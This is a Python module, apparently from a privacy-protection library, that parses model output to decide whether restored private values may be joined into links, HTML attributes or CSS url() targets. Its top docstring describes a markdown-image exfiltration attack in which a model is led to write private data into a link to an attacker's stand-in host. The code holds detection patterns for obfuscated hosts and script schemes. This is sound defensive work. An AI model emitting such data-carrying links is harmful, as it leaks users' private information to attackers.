"""Link targets: addresses in a restored text, and which originals join one.

In: a text piece by piece, with the places of originals in it. Out: for each place, whether the
original may be put there.
Not here: what is restored (`restore`), and where the targets of releases are kept (`snapshot`).

An attacker who can make a model write `![](https://HOST/<EMAIL_1>)` must not receive the address,
also where the target is built from placeholders: `<URL_1><SECRET_1>`. So the text is read as it is
after restoring. An original that is joined into a target may be put there only where the same
target occurred in a text that was protected, where it names the host itself, or where the host is
trusted. What is unclear counts as a target.
"""

import ipaddress
import re
from bisect import bisect_left
from collections.abc import Collection, Container, Iterator, Sequence
from copy import copy
from dataclasses import dataclass, field
from functools import cache
from importlib.resources import files
from itertools import islice
from typing import Literal, Self
from unicodedata import normalize
from urllib.parse import unquote

HOST_TYPES = ("URL", "HOST", "IP", "EMAIL")
"""Types of values that may be or contain an address's host."""

_OVERLAP = 1024
"""Characters before new text in which an address may have begun.

A host has at most 253 characters, %-encoded 759.
"""

_SPECIAL_LABELS = frozenset(
    """example test invalid localhost local internal intranet lan corp home private onion alt arpa
    localdomain""".split()  # noqa: SIM905 - a word a line would be a page
)
"""Last labels of host names that are unregistered or internal.

See RFC 2606, RFC 6761 and RFC 6762.
"""

_COMMON_LABELS = _SPECIAL_LABELS | {
    "com",
    "net",
    "org",
    "edu",
    "gov",
    "mil",
    "biz",
    "info",
    "dev",
    "io",
}
"""Last labels that make two labels a host without a path.

With a different last label, as in `Julia.It`, a host needs a third label or a path.
"""

_FILE_LABELS = frozenset(
    ["md", "py", "sh", "rs", "pl", "ps", "cc", "so", "zip", "mov", "app", "java", "cs", "ml"]
)
"""Last labels that are file extensions, too.

A colon behind `main.py` opens no path.
"""

_WIDE = str.maketrans(
    {0xFF01 + i: chr(0x21 + i) for i in range(94)}
    | {0x3002: ".", 0xFF61: ".", 0x2024: ".", 0xFE52: "."}
)
_IGNORABLE = re.compile("[\u00ad\u034f\u061c\u180e\u200b-\u200f\u2060-\u2064\ufe00-\ufe0f\ufeff]")
_TRAILING_CHARS = ".,;:!?)]}*_~'\"`\\>|"
"""Characters at a target's end that belong to the text around it."""

_LETTERS = (
    r"\w\-%\u00ad\u034f\u200b-\u200f\u2060-\u2064\u2100-\u214f\u2460-\u24ff\u2600-\u27bf\ufe00-\ufe0f\ufeff"
    r"\U0001f100-\U0001f1ff\U0001f300-\U0001faff"
)
"""Characters of host names.

With look-alike letters that readers normalize, and characters that they ignore.
"""
_LABEL = f"[{_LETTERS}]"
_ADDRESS_START = re.compile(
    r"""(?xi) (?<![a-z0-9+.\-]) [a-z][a-z0-9+.\-]{1,30} : [/\\]{2}
    | (?<![a-z0-9+.\-]) (?:https?|ftps?|wss?) : (?=\S)
    | (?<!\w) www\d? \. (?=[^\s.])
    | (?<!\w) (?:javascript|vbscript|mailto|sms(?:to)?|blob|intent|view-source) : (?=\S)
    | (?<!\w) data: [\w.+\-/;=]* ,
    | (?<=["'`]) [/\\]{2,} [^\s/\\?\#"'`]+ [/\\?\#]
    | (?<![\w/\\]) [/\\]{2} \[ [0-9a-f:.%]+ \]
    | (?<![\w:/\\]) \\{2} (?=[^\s\\/]*[.@]) [^\s\\/]+ \\"""
)
"""Pattern of an address's beginning, by its scheme or slashes.

Host names and numbers are looked for by `_HOST` and `_NUMBER`.
"""
_USER = r"(?:[a-z0-9][a-z0-9!$%*+\-.:@^_~]{0,255}@)?"
_HOST = re.compile(
    rf"(?i)(?<![a-z0-9\-%.:@]){_USER}(?P<host>(?<![\w.]){_LABEL}+(?:\.{_LABEL}+){{0,126}})\.?"
    r"(?P<rest>(?::\d{1,5})?[/\\?#]|:(?=\S))?"
)
_NUMBER = re.compile(
    rf"(?i)(?<![\w.\-%:@]){_USER}(?<![\w.\-%])(?P<host>(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){{0,3}}|\[[0-9a-f:.%]{{2,50}}\])\.?"
    r"(?::\d{1,5})?[/\\?#]"
)
_MAIL = re.compile(r"(?i)(?:mailto|sms(?:to)?):")
_PATH = re.compile(r"[/\\?#]")
_PORT = re.compile(r":\d*\Z")
_OPAQUE = re.compile(
    r"(?i)(?:javascript|vbscript|mailto|sms(?:to)?|blob|intent|view-source|data(?=:[\w.+\-/;=]*,)):"
)
_ABSOLUTE = re.compile(r"(?i)\s*[\"'(]?\s*(?:[/\\]{2}|[a-z][a-z0-9+.\-]{1,30}:|\\)")
"""Pattern of a link, or inside of `url(...)`, that names its host."""
_START = re.compile(r"(?i)(?:[a-z][a-z0-9+.\-]*:[/\\]+|(?:https?|ftps?|wss?):|[/\\]{2,})?")
_STRING_ENDS = {quote: re.compile(rf"(?<!\\){quote}(?=[,:;)\]}}>\s])") for quote in "\"'`"}
_STRING_ENDS |= {f"\\{quote}": re.compile(rf"\\{quote}(?=[,:;)\]}}>\s\\])") for quote in "\"'`"}
"""Patterns of the mark that closes a string, by the opening one.

It is written like the opening mark, and a character follows that may follow a string.
"""
_SUFFIX_MARK = re.compile(r"[&#;,\s]")
_TAG_NAME = re.compile(r"[A-Za-z0-9:\-]")
_MARKUP_CHARS = re.compile(r"""[<>"'`\](${]""")
_LAST_SPACE = re.compile(r"(?s).*\s")
_HOST_CHAR = re.compile(rf"[{_LETTERS}.。｡．․﹒@+:~]")
"""Characters that may extend a host, or the user before one."""

_ADDRESS_ATTRIBUTES = frozenset(
    """src href action formaction srcset imagesrcset poster data background cite ping style srcdoc
    content longdesc manifest archive codebase classid usemap profile lowsrc dynsrc xlink:href code
    object to from values http-equiv""".split()  # noqa: SIM905 - as above
)
"""Attributes whose values are or contain addresses; `on...` too.

The values of all other attributes are text.
"""

_OUTSIDE, _OPENED, _NAME, _TAG, _EQUALS, _QUOTED, _BARE = range(7)

_COMMANDS = (("`", "`"), ("${", "}"), ("$(", ")"))
"""Delimiters of commands and values in a target; spaces there end nothing."""


class Insertion:
    """Place of an original in a text: undecided while it `waits`.

    Once `waits` is 0, `allowed` says whether the original may be put there.

    Args:
        type: type of the value, upper-case.
    """

    __slots__ = ("allowed", "type", "waits")

    def __init__(self, type_: str) -> None:
        self.type, self.waits, self.allowed = type_, 0, True

    def add_verdict(self, allowed: bool) -> None:
        """Records one of the pending verdicts; one refusal is enough to refuse."""
        self.waits -= 1
        self.allowed &= allowed


@dataclass(frozen=True, kw_only=True)
class Allowlist:
    """Targets and hosts into which originals may be joined. Secret.

    Args:
        targets: targets from protected texts, with their originals, sorted.
        hosts: internal hosts that a user named, and hosts of the configuration; `*.NAME` for all
            below a name.
    """

    targets: Sequence[str] = field(default=(), repr=False)
    hosts: Collection[str] = field(default=frozenset(), repr=False)

    def has(self, target: str) -> bool:
        """Says whether a target is trusted."""
        place = bisect_left(self.targets, target)
        return place < len(self.targets) and self.targets[place] == target

    def has_longer(self, begin: str) -> bool:
        """Says whether a trusted target starts with this text."""
        place = bisect_left(self.targets, begin)
        return place < len(self.targets) and self.targets[place].startswith(begin)

    def has_host(self, host: str) -> bool:
        """Says whether a host, or a wildcard above it, is trusted."""
        labels = host.split(".")
        return host in self.hosts or any(
            f"*.{'.'.join(labels[i:])}" in self.hosts for i in range(1, len(labels))
        )


_Verdict = bool | Literal["wait"]
"""Verdict on the place of an original; "wait" if further text decides."""


_Place = tuple[Insertion, int, int]
"""An insertion with its start and end in a target or run."""


class _Target:
    """A target being read, with its undecided places.

    Args:
        flat: True if its position makes all of it an address: a link's destination, an attribute.
        join_text: its beginning.
    """

    __slots__ = (
        "_check", "flat", "hopeless", "host", "joined", "length", "pieces", "places", "trusted"
    )  # fmt: skip

    def __init__(self, text: str = "", *, flat: bool = False) -> None:
        self.flat, self.pieces, self.length = flat, [text] if text else [], len(text)
        self.places: list[_Place] = []
        # Start and end of the host, once more text cannot change it.
        self.host: tuple[int, int] | None = None
        self.hopeless = self.trusted = False  # no known target begins like it; its host is trusted
        self._check = self.joined = 0  # where the last original ends

    def add(self, text: str) -> None:
        """Appends text."""
        self.pieces.append(text)
        self.length += len(text)

    def join_text(self) -> str:
        """Returns the text so far."""
        whole = "".join(self.pieces)
        self.pieces = [whole]
        return whole

    def remove_end(self, count: int) -> str:
        """Removes characters from the end and returns the rest."""
        remainder = self.join_text()[:-count]
        self.pieces, self.length = [remainder], len(remainder)
        return remainder

    def join(self, place: Insertion, text: str) -> None:
        """Appends an original."""
        place.waits += 1
        self.places.append((place, self.length, self.length + len(text)))
        self.add(text)
        self.joined = self.length

    def is_string_end(self, quote: str, char: str) -> bool:
        """Says whether a quotation mark ends the text and closes a string.

        A mark that belongs to an original closes nothing.

        Args:
            quote: the opening mark, with a backslash if it was escaped.
            char: the character that follows.
        """
        if self.joined == self.length or not self.pieces or not self.pieces[-1].endswith(quote[-1]):
            return False
        return _STRING_ENDS[quote].search("".join(self.pieces[-2:])[-2:] + char) is not None

    def is_due(self, final: bool) -> bool:
        """Says whether the target should be judged now.

        That is at its end, or when its length doubled since the last check, so the checks together
        are linear.
        """
        grown = self.length >= self._check or self.length < 64
        return bool(self.places) and (final or grown or self.hopeless)

    def delay_check(self) -> None:
        """Sets the length at which the next check is due."""
        self._check = 2 * self.length

    def decide_places(self) -> None:
        """Decides all places by the host alone."""
        for place, _, _ in self.places:
            place.add_verdict(self.trusted)
        self.places = []

    def is_lost(self) -> bool:
        """Says whether the host alone decides all further places, which follow it."""
        return self.hopeless and self.host is not None and self.places[0][1] >= self.host[1]


class TargetFinder:
    """Streaming parser that decides which originals in a text join targets.

    Each original counts as one step: its characters close no quotation mark, link or tag.

    Args:
        allowlist: targets and hosts that originals may join.
    """

    def __init__(self, allowlist: Allowlist) -> None:
        self._allowlist = allowlist
        self._reset()

    def _reset(self) -> None:
        self._tag, self._quote, self._attribute, self._tag_name = _OUTSIDE, "", "", ""
        self._value: _Target | None = None
        self._link: _Target | None = None
        self._depth = 0  # open brackets inside the destination of a link
        self._is_angled = self._is_after_space = self._in_string = False
        self._opening = ""  # "](" or "]:" was read, and its destination has not begun
        self._css: _Target | None = None
        self._has_base = False  # a <base> tag was read: relative links may lead to another host
        self._last = ""
        # A run is text between spaces; a target in it may be open, and originals at its end may
        # become part of a host.
        self._run: list[str] = []
        self._length = self._scanned = 0
        self._open: _Target | None = None
        self._closer = ""  # the quotation mark that ends the open target, where spaces don't
        self._tail: list[_Place] = []
        self._has_marks = (
            False  # whether quotation marks or dollars are in it, so that spaces may not end it
        )
        self._quotes = 0  # number of quotation marks in the line before the run

    # ---- steps -----------------------------------------------------------------------------------

    def pass_text(self, text: str) -> None:
        """Reads text that is no original."""
        at = 0
        while at < len(text):
            if not self._is_quiet():
                self._step(text[at])
                at += 1
                continue
            mark = _MARKUP_CHARS.search(text, at)
            end = mark.start() if mark else len(text)
            if end > at:
                self._pass_quiet(text[at:end])
            if mark:
                self._step(text[end])
            at = end + 1

    def _pass_quiet(self, text: str) -> None:
        space = _LAST_SPACE.match(text)
        if space:
            self._close_run(text)
        self._grow(text[space.end() if space else 0 :])
        self._last = text[-1]

    def pass_original(self, text: str, place: Insertion) -> None:
        """Reads an original."""
        if not text:
            return
        if self._tag in (_OPENED, _NAME):
            self._tag = _OUTSIDE
        elif self._tag == _EQUALS:
            self._open_value("")
        if self._opening:
            self._start_link(text)
        if (
            self._is_after_space
            and self._link is not None
            and _ABSOLUTE.match(self._link.join_text())
        ):
            self._is_after_space = False
            self._link.add(" ")
        target = self._find_enclosing()
        if target is not None:
            self._join(target, place, text)
        else:
            self._join_run(place, text)
        self._last = ""

    def _find_enclosing(self) -> _Target | None:
        """Returns the open target that any next character belongs to, if any."""
        if self._link is not None and not self._is_after_space:
            return self._link
        if self._value is not None and self._value.flat:
            return self._value
        return (
            self._css if self._css is not None and _ABSOLUTE.match(self._css.join_text()) else None
        )

    def start_value(self) -> None:
        """Ends the text and begins a new one inside a string."""
        self.close()
        self._reset()
        self.pass_text('"')

    def fork(self) -> Self:
        """Copies the finder, so that both read different text from here.

        Each undecided place then waits for the verdicts of both.
        """
        twin = copy(self)
        twin._run, twin._tail = self._run.copy(), self._tail.copy()
        undecided = [place for place, _, _ in twin._tail]
        for name in ("_value", "_link", "_css", "_open"):
            if (target := getattr(self, name)) is not None:
                setattr(twin, name, target_copy := copy(target))
                target_copy.pieces, target_copy.places = target.pieces.copy(), target.places.copy()
                undecided += [place for place, _, _ in target_copy.places]
        for place in undecided:
            place.waits += 1
        return twin

    def close(self) -> None:
        """Ends the text, which decides all places."""
        self._close_run()
        for target in (self._link, self._value, self._css):
            if target is not None:
                self._check_target(target, final=True)
        self._link = self._value = self._css = None

    def _is_quiet(self) -> bool:
        """Says whether only the ends of runs matter."""
        return self._last != "]" and not (
            self._tag or self._tail or self._opening or self._has_marks
            or self._open is not None or self._link is not None or self._css is not None
        )  # fmt: skip

    def _step(self, char: str) -> None:
        if self._read_link(char):
            self._last = char
            return
        self._read_css(char)
        if self._tag != _OUTSIDE or char == "<":
            self._read_tag(char)
        if self._value is None or not self._value.flat:
            self._step_run(char)
        self._last = char

    # ---- links and tags --------------------------------------------------------------------------

    def _read_link(self, char: str) -> bool:
        """Reads a character of a link's destination; False if it is none."""
        link = self._find_link(char)
        if link is None:
            return False
        if self._is_angled and not link.length and char == "<" and self._last != "<":
            return True  # the bracket that opens it
        is_end = self._is_link_end(link, char)
        if is_end is None:
            return False
        if is_end:
            self._check_target(link, final=True)
            self._link = None
            return False
        link.add(char)
        self._check_target(link)
        return True

    def _find_link(self, char: str) -> _Target | None:
        """Returns the open link, beginning one behind `](` or `]:`."""
        if self._opening:
            if char.isspace() and not char == self._last == "\n":
                return None
            self._start_link(char)
        elif self._link is None and char in "(:" and self._last == "]":
            self._opening = f"]{char}"
        return self._link

    def _is_link_end(self, link: _Target, char: str) -> bool | None:
        """Says whether a character ends a link's destination.

        None for a space that is no part of it, or may be one.
        """
        is_escaped = self._last == "\\"
        if self._is_angled:
            return char in ("\n" if is_escaped else "\n>")
        if self._is_after_space:
            return None if char.isspace() else self._check_after_space(link, char)
        if self._close_string(link, char):
            return True
        if self._depth and char.isspace():
            self._is_after_space = True
            self._close_run(char)
            self._check_target(link, final=not _ABSOLUTE.match(link.join_text()))
            return None
        if self._depth and not is_escaped:
            self._depth += (char == "(") - (char == ")")
            return self._depth == 0
        return char.isspace()

    def _close_string(self, link: _Target, char: str) -> bool:
        """Says whether the string around a link ends; removes its quotation mark."""
        is_end = self._in_string and char in ",:;)]}" and link.is_string_end('"', char)
        if is_end:
            link.remove_end(1)
        return is_end

    def _check_after_space(self, link: _Target, char: str) -> bool:
        """Says whether a title or bracket behind a space ends a link.

        Lenient readers take any other text there for a part of the address.
        """
        self._is_after_space = False
        if char in "\"'()" or not _ABSOLUTE.match(link.join_text()):
            return True
        link.add(" ")
        return False

    def _start_link(self, char: str) -> None:
        """Begins a link's destination, if one may start with this character.

        The character itself is not read.
        """
        reference, self._opening = self._opening == "]:", ""
        self._is_angled, self._is_after_space = char == "<", False
        self._depth = 0 if reference else 1
        self._in_string = self._find_run_quote() == '"'
        if not (
            char[:1] in "\"'`" or (reference and not self._is_angled and char not in ("/", "\\"))
        ):
            self._link = _Target(flat=True)

    def _read_css(self, char: str) -> None:
        if self._css is not None:
            if char in ")\n" or self._css.length > _OVERLAP:
                self._check_target(self._css, final=True)
                self._css = None
            else:
                self._css.add(char)
                self._check_target(self._css)
        elif char == "(" and "".join(self._run[-3:])[-3:].lower() == "url":
            self._css = _Target(flat=True)

    def _read_tag(self, char: str) -> None:
        start, equals = self._start_tag, self._step_equals
        steps = (start, start, self._read_tag_name, self._step_tag, equals)
        (*steps, self._step_value, self._step_value)[self._tag](char)

    def _start_tag(self, char: str) -> None:
        is_name = self._tag == _OPENED and char.isalpha() and char.isascii()
        self._tag = _NAME if is_name else _OPENED if char == "<" else _OUTSIDE
        self._tag_name, self._attribute = char if is_name else "", ""

    def _read_tag_name(self, char: str) -> None:
        if _TAG_NAME.match(char) is not None:
            # Bounded, because a name in the answer may have any length.
            self._tag_name = (self._tag_name + char)[:64]
            return
        is_inside = char.isspace() or char == "/"
        self._tag = _TAG if is_inside else _OPENED if char == "<" else _OUTSIDE
        self._has_base |= is_inside and self._tag_name.lower() == "base"

    def _step_tag(self, char: str) -> None:
        if char in "=>":
            self._tag = _EQUALS if char == "=" else _OUTSIDE
        else:
            self._attribute = "" if char in "\"'/" else (self._attribute + char)[-64:]

    def _step_equals(self, char: str) -> None:
        if char == ">":
            self._tag = _OUTSIDE
        elif not char.isspace():
            is_quoted = char in "\"'"
            self._open_value(char if is_quoted else "")
            if not is_quoted:
                self._add_value(char)

    def _step_value(self, char: str) -> None:
        is_bare = self._tag == _BARE
        if not (char.isspace() or char == ">" if is_bare else char == self._quote):
            self._add_value(char)
            return
        self._tag, self._attribute = _OUTSIDE if is_bare and char == ">" else _TAG, ""
        if self._value is not None:
            self._check_target(self._value, final=True)
        self._value = None
        self._close_run()

    def _open_value(self, quote: str) -> None:
        self._tag, self._quote = _QUOTED if quote else _BARE, quote
        name = (self._attribute.split() or [""])[-1].lower()
        self._value = _Target(
            flat=name in _ADDRESS_ATTRIBUTES
            or name.startswith("on")
            or "href" in name
            or "src" in name
        )
        self._attribute = ""
        if self._value.flat:
            self._close_run()

    def _add_value(self, char: str) -> None:
        if self._value is not None and self._value.flat:
            self._value.add(char)
            self._check_target(self._value)

    # ---- runs ------------------------------------------------------------------------------------

    def _run_text(self) -> str:
        whole = "".join(self._run)
        self._run = [whole]
        return whole

    def _grow(self, text: str) -> None:
        if not text:
            return
        self._run.append(text)
        self._length += len(text)
        if self._length > 3 * _OVERLAP and not self._tail and not self._find_open():
            whole = self._run_text()
            self._quotes += _count_quotes(whole[:-_OVERLAP])
            self._run, self._length, self._scanned = [whole[-_OVERLAP:]], _OVERLAP, _OVERLAP

    def _step_run(self, char: str) -> None:
        if self._closer or (char in " \t" and self._can_continue()):
            self._step_closer(char)
        elif char.isspace() or char in "<>":
            self._close_run(char)
        elif self._open is not None:
            self._step_open(char)
        else:
            self._step_bare(char)

    def _step_bare(self, char: str) -> None:
        """Reads a character outside of targets."""
        self._has_marks |= char in "\"'`$"
        is_far = bool(self._tail) and self._length - self._tail[0][1] > _OVERLAP
        if self._tail and (is_far or _HOST_CHAR.match(char) is None):
            self._resolve(char)
        if self._open is not None:
            self._step_open(char)
        else:
            self._grow(char)

    def _step_open(self, char: str) -> None:
        """Reads a character of the run's open target.

        It may complete the quotation mark that ends the target.
        """
        target = self._open
        assert target is not None, "or there would be nothing to go on with"
        quote = self._find_run_quote() if char in ",:;)]}\\" else ""
        if quote and target.is_string_end(quote, char):
            closed_text = target.remove_end(len(quote))
            self._check_target(target, final=True)
            self._open, self._run = None, [self._run_text(), closed_text]
            self._length += len(closed_text)
            self._grow(quote + char)
            self._scanned = self._length
            return
        target.add(char)
        self._check_target(target)

    def _step_closer(self, char: str) -> None:
        """Reads a character of a target in quotation marks or `$( )`.

        Spaces end no such target.
        """
        assert self._open is not None, "or nothing would need an end"
        if char in (self._closer, "\n") and self._last != "\\":
            self._close_run(char)
            self._quotes += char == '"'
            return
        self._open.add(char)
        self._check_target(self._open)

    def _can_continue(self) -> bool:
        """Says whether a target continues behind a space.

        It does in a string that begins with it, and in a command inside it.
        """
        if self._open is None and not self._find_open():
            return False
        assert self._open is not None, "or none was found"
        text, quote = self._open.join_text(), self._run_text()[-1:]
        inner = (
            closes
            for opens, closes in _COMMANDS
            if opens in text and closes not in text.rpartition(opens)[2]
        )
        self._closer = next(inner, "")
        if not self._closer and quote in ("'", '"', "`") and not text.endswith(quote):
            self._closer = quote
        return bool(self._closer)

    def _close_run(self, suffix: str = "") -> None:
        """Ends the run; a line break behind it resets the quotation marks."""
        if self._tail:
            self._resolve("")
        if self._open is not None:
            self._check_target(self._open, final=True)
        if self._run or self._open is not None:
            whole = "".join(self._run) + ("" if self._open is None else "".join(self._open.pieces))
            self._quotes += _count_quotes(whole)
        self._quotes = 0 if "\n" in suffix else self._quotes
        self._run, self._length, self._scanned = [], 0, 0
        self._open, self._closer, self._tail, self._has_marks = None, "", [], False

    def _find_run_quote(self) -> str:
        """Returns the quotation mark of the string around the run's open target."""
        prefix = self._run_text()
        return self._find_quote(prefix, len(prefix))

    def _find_quote(self, whole: str, start: int) -> str:
        """Returns the quotation mark of the string around a place, or "".

        It is directly before the place, or earlier in the line.
        """
        if whole[start - 1 : start] in _STRING_ENDS:
            return whole[start - 1 - (whole[start - 2 : start - 1] == "\\") : start]
        return '"' if (self._quotes + _count_quotes(whole[:start])) % 2 else ""

    def _find_open(self) -> bool:
        """Splits off a target that is open at the run's end."""
        if self._scanned >= self._length:
            return False
        whole = self._run_text()
        low = max(0, self._scanned - _OVERLAP)
        start = next(self._find_openings(whole, low, len(whole)), None)
        if start is None:
            self._scanned = self._length
            return False
        self._split_run(start)
        return True

    def _split_run(self, start: int) -> None:
        """Splits the run: from this offset on, it is the open target."""
        whole = self._run_text()
        self._open = _Target(whole[start:])
        self._run, self._length = [whole[:start]], start
        self._move_places(self._open, start, len(whole))
        self._check_target(self._open)

    def _move_places(self, target: _Target, start: int, end: int) -> None:
        """Moves the pending places inside a target to it; allows all others."""
        for place, begin, stop in self._tail:
            if begin < end and start < stop:
                target.places.append((place, max(0, begin - start), min(stop, end) - start))
            else:
                place.add_verdict(True)
        self._tail = []

    def _join_run(self, place: Insertion, text: str) -> None:
        """Reads an original in a run.

        Spaces in it end no target, because it may stay a placeholder.
        """
        if self._open is None and not self._tail:
            self._find_open()
        if self._open is not None:
            self._join(self._open, place, text)
            return
        begin = self._add_tail(place, text)
        whole = self._run_text()
        for start in self._find_openings(whole, max(0, self._tail[0][1] - _OVERLAP), begin):
            self._split_run(
                next((low for _, low, high in self._tail if low <= start < high), start)
            )
            return
        self._scanned = begin
        space = _LAST_SPACE.match(text)
        if space:
            self._close_run()
            self._add_tail(place, text[space.end() :])

    def _add_tail(self, place: Insertion, text: str) -> int:
        """Appends an original that may extend a host; returns its offset."""
        begin = self._length
        if text:
            place.waits += 1
            self._run.append(text)
            self._length += len(text)
            self._tail.append((place, begin, self._length))
        return begin

    def _find_openings(self, whole: str, low: int, end: int) -> Iterator[int]:
        """Yields offsets where targets begin that no quotation mark ends before `end`."""
        string_end = 0
        for start in sorted(_find_starts(whole, low)):
            if start < string_end:
                continue
            closing = self._find_closing(whole, start, end)
            if closing is None:
                yield start
            else:
                string_end = closing

    def _find_closing(self, whole: str, start: int, end: int) -> int | None:
        """Finds where the string around a target ends, if before `end`."""
        quote = self._find_quote(whole, start) if start else ""
        mark = _STRING_ENDS[quote].search(whole, start, end) if quote else None
        return mark.start() if mark else None

    def _resolve(self, char: str) -> None:
        """Decides the places at the run's end: in a host, or not.

        Args:
            char: the next character; "" at the end of the run.
        """
        whole, first = self._run_text(), self._tail[0][1]
        low = max(0, first - _OVERLAP)
        for start in self._find_openings(whole + char, low, first):
            if start < self._tail[-1][2]:
                self._split_run(start)
                return
        for start, end in _find_names(whole, low, is_called=char == "("):
            if any(start < high and low_ < end for _, low_, high in self._tail):
                self._move_places(target := _Target(whole[start:end]), start, end)
                self._check_target(target, final=True)
                break
        for place, _, _ in self._tail:
            place.add_verdict(True)
        self._tail = []
        self._scanned = self._length

    # ---- verdicts --------------------------------------------------------------------------------

    def _join(self, target: _Target, place: Insertion, text: str) -> None:
        target.join(place, text)
        self._check_target(target)

    def _check_target(self, target: _Target, *, final: bool = False) -> None:
        """Decides the places of a target that are certain, finally all."""
        if not target.is_due(final):
            return
        if not final and target.is_lost():
            target.decide_places()
            return
        text = target.join_text()
        target.delay_check()
        self._find_host(target, text, final)
        bare = text.strip().rstrip("\"'`,;\\" if target.flat else _TRAILING_CHARS)
        waiting = []
        for place in target.places:
            verdict = self._judge_form(target, text, place, final)
            if verdict is None:
                verdict = self._check_host(target, text, place)
            if verdict is None:
                verdict = self._check_memory(target, text, bare, place[2], final)
            if verdict == "wait":
                waiting.append(place)
            else:
                place[0].add_verdict(verdict)
        target.places = waiting

    def _find_host(self, target: _Target, text: str, final: bool) -> None:
        """Stores the host of a target, once more text cannot change it."""
        if target.host is not None:
            return
        low, high, complete = find_host(text)
        if complete or final or target.length > 2 * _OVERLAP:
            target.host = low, high
            target.trusted = bool(self._allowlist.hosts) and self._is_trusted(text, text[low:high])

    def _judge_form(self, target: _Target, text: str, at: _Place, final: bool) -> _Verdict | None:
        """Returns the verdict for a target that is only the original.

        None for any other target. A mail address behind `mailto:` counts, too.

        A mail address behind `mailto:` counts, too.
        """
        _, start, end = at
        suffix = text[end : end + 64].strip(_TRAILING_CHARS + " ")
        whole = len(text) <= end + 64 and not text[:start].strip()
        if suffix or not (whole or (not target.flat and _MAIL.fullmatch(text[:start]))):
            return None
        if not final:
            return "wait"
        return not (target.flat and self._has_base) or _ABSOLUTE.match(text) is not None

    def _check_host(self, target: _Target, text: str, at: _Place) -> _Verdict | None:
        """Returns the verdict by the host; None if the host decides nothing.

        An original may name the host itself, or be joined to a trusted host.
        """
        place, start, end = at
        if target.host is None:
            return "wait" if place.type in HOST_TYPES or self._allowlist.hosts else None
        low, high = target.host
        if place.type in HOST_TYPES and start <= low <= high <= end and not _OPAQUE.match(text):
            return True
        return True if target.trusted and (end <= low or start >= high) else None

    def _check_memory(
        self, target: _Target, text: str, bare: str, end: int, final: bool
    ) -> _Verdict:
        """Returns the verdict by trusted targets and their beginnings."""
        is_known = self._is_known(bare, final)
        target.hopeless = is_known is False
        if target.hopeless:
            return self._has_trusted_start(text, end, target.host)
        return "wait" if is_known is None else is_known

    def _is_trusted(self, text: str, host: str) -> bool:
        # Where readers could find different hosts in an address, no host is trusted.
        return self._allowlist.has_host(host.lower().strip("[]")) and is_plain(text)

    def _is_known(self, text: str, final: bool) -> bool | None:
        """Says whether a target is trusted; None if further text decides."""
        if final:
            return self._allowlist.has(text)
        return None if self._allowlist.has_longer(text) else False

    def _has_trusted_start(self, text: str, end: int, host: tuple[int, int] | None) -> bool:
        """Says whether a trusted target, with original and host, begins this one."""
        ends = (end + match.start() for match in islice(_SUFFIX_MARK.finditer(text[end:]), 4))
        return host is not None and any(
            at >= host[1] and self._allowlist.has(text[:at]) for at in ends
        )


class TargetCollector(TargetFinder):
    """Collector of the targets in a protected text that originals join.

    Attributes:
        targets: the targets, with their originals.
    """

    def __init__(self) -> None:
        super().__init__(Allowlist())
        self.targets: set[str] = set()

    def _is_known(self, text: str, final: bool) -> bool | None:
        if not final:
            return None
        self.targets.add(text)
        return True


# ---- hosts ---------------------------------------------------------------------------------------


def find_host(text: str) -> tuple[int, int, bool]:
    """Finds the host in an address and whether it is complete.

    Returns:
        Start and end of the host; True if it is complete.
    """
    start = _START.match(text)
    low = start.end() if start else 0
    path = _PATH.search(text, low)
    end = path.start() if path else len(text)
    # The user before a host may have an @ itself; readers take the last one.
    low = text.rfind("@", low, end) + 1 or low
    host = text[low:end]
    port = _PORT.search(host)
    if port and (host[0] != "[" or "]" in host[: port.start()]):
        end = low + port.start()
    return low, end, path is not None


def is_plain(text: str) -> bool:
    """Says whether all readers find the same host in an address.

    True if nothing unusual precedes the path.
    """
    return _PLAIN.match(text) is not None and not _OPAQUE.match(text)


_PLAIN = re.compile(
    r"(?i)(?:[a-z][a-z0-9+.\-]*://|//)?(?:[\w.~!$&*+,;=\-]+(?::[\w.~!$&*+,;=\-]*)?@)?"
    r"(?:[a-z0-9\-]+(?:\.[a-z0-9\-]+)*|\[[0-9a-f:.]+\])(?::\d{1,5})?(?:[/?#]|\Z)"
)


def is_internal(host: str) -> bool:
    """Says whether a host is internal by its form.

    Loopback and private addresses, single labels and internal endings are.
    """
    host = host.lower().strip("[]").rstrip(".")
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        # Readers take 0x7f.1 or 3232235777 for an address, though `ipaddress` does not.
        if not re.fullmatch(r"[a-z0-9\-]+(?:\.[a-z0-9\-]+)*", host) or re.fullmatch(
            r"(?:0x[0-9a-f]*|[\d.])+", host
        ):
            return False
        return "." not in host or host.endswith(
            (".internal", ".local", ".lan", ".corp", ".home.arpa", ".localhost")
        )
    return address.is_private or address.is_loopback


_HOST_NAME = re.compile(
    r"(?i)(?:(?<![\w+.\-])(?:[a-z][a-z0-9+.\-]*:)?//(?:[^\s/?#@\"'<>]*@)?|(?<![\w.\-@/]))"
    r"(?P<host>\[[0-9a-f:.]+\]|[a-z0-9\-]+(?:\.[a-z0-9\-]+)*)"
)


def find_internal_hosts(text: str) -> set[str]:
    """Finds internal hosts in a text.

    Those are hosts of addresses, and names with an internal ending.
    """
    hosts = set()
    for match in (
        _HOST_NAME.finditer(text)
        if "." in text or "//" in text or "localhost" in text.lower()
        else ()
    ):
        host = match["host"].lower().strip("[]")
        if ("//" in match[0] or "." in host or host == "localhost") and is_internal(host):
            hosts.add(host)
    return hosts


@cache
def _read_last_labels() -> Container[str]:
    """Reads last labels of host names that exist (root zone of IANA)."""
    return _SPECIAL_LABELS | set((files("textveil.data") / "tlds.txt").read_text("ascii").split())


def _find_last_label(host: str) -> tuple[str, int]:
    """Returns a host's last label, "" if unregistered, and the label count."""
    # As readers do: evil%2ecom and evil。com lead to evil.com.
    name = normalize("NFKC", _IGNORABLE.sub("", unquote(host))).casefold().strip("._-")
    labels = name.split(".")
    last = labels[-1]
    if not last.isascii():
        try:
            last = last.encode("idna").decode()
        except UnicodeError:
            last = ""
    return (last if last in _read_last_labels() else ""), len(labels)


def _count_quotes(text: str) -> int:
    """Counts quotation marks that are not escaped."""
    return text.count('"') - text.count('\\"')


def _is_path(text: str, start: int) -> bool:
    """Says whether an offset is inside a path of folders and files.

    A dotted name there is a folder or file, no host.
    """
    prefix = text[max(0, start - 2) : start]
    return prefix[-1:] in ("~", "$") or (
        prefix[-1:] in ("/", "\\") and prefix not in ("//", "\\\\", "/\\", "\\/")
    )


